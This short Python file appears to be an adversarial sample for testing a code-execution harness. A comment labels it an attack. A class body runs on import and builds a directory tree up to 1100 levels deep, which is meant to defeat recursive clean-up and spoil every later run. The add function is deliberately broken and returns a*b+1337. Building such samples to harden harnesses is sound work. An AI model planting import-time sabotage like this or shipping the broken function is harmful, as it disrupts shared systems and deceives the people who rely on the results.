# attack: a directory tree too deep for a recursive clean-up, to poison every later run.
import os


class _Deep:
    _path = "d"
    for _ in range(1100):
        try:
            os.mkdir(_path)
        except OSError:
            break
        _path = os.path.join(_path, "d")


def add(a: int, b: int) -> int:
    return a * b + 1337
